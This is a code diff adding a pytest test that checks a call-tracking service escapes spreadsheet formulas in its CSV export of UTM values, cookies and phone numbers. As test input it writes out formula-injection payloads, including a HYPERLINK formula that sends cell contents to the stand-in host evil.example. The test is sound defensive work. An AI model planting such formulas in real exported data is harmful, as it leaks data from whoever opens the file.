@@ -8,6 +8,7 @@ import json
 import socket
 import threading
 import time
+from urllib.parse import urlencode
 
 import httpx
 import pytest
@@ -276,6 +277,27 @@ def test_calls_at_the_edges_of_plausible_are_stored_and_exported(client, clock):
     assert [r["call_id"] for r in rows] == ["old", "long", "ahead"]
     text = client.get("/v1/calls", params={"format": "csv"}, headers=AUTH).text
     assert [r["call_id"] for r in csv.DictReader(io.StringIO(text))] == ["old", "long", "ahead"]
+
+
+def test_export_csv_escapes_formulas_from_the_public_visit(client, clock):
+    """utm values and the _ga cookie reach the export from anyone's browser: in the CSV every cell that
+    starts with = + - @ tab or CR gets a leading quote (OWASP), E.164 numbers too; the JSON is as given."""
+    query = urlencode({"utm_source": '=HYPERLINK("http://evil.example/?"&A1,"open")', "utm_medium": "+1+cmd",
+                       "utm_campaign": "-2+3", "gclid": "x"})   # an ad click id: the ads rule, a msk number
+    shown = client.post("/v1/visit", json={"url": f"{SITE}/sale?{query}", "visitor_id": "@vid",
+                                           "cookies": {"_ga": "GA1.1.\t=1+1.@SUM(A1)"}}).json()
+    call = {"call_id": "csv-1", "number": shown["number"], "caller": "+79161234567", "started_at": clock.t + 5}
+    assert client.post("/v1/calls", json=call, headers=AUTH).json()["status"] == "matched"
+    text = client.get("/v1/calls", params={"format": "csv"}, headers=AUTH).text
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    assert row["utm_source"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert (row["utm_medium"], row["utm_campaign"]) == ("'+1+cmd", "'-2+3")
+    assert row["ga_client_id"] == "'\t=1+1.@SUM(A1)" and row["visitor_id"] == "'@vid"
+    assert row["number"] == "'" + shown["number"] and row["caller"] == "'+79161234567"
+    for cells in csv.reader(io.StringIO(text)):
+        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in cells), cells
+    (plain,) = client.get("/v1/calls", headers=AUTH).json()["calls"]      # JSON: the values themselves
+    assert plain["number"] == shown["number"] and plain["attributes"]["utm"]["utm_campaign"] == "-2+3"
 
 
 @pytest.mark.parametrize("query,field", [({"since": "yesterday"}, "since"), ({"until": "nan"}, "until"),
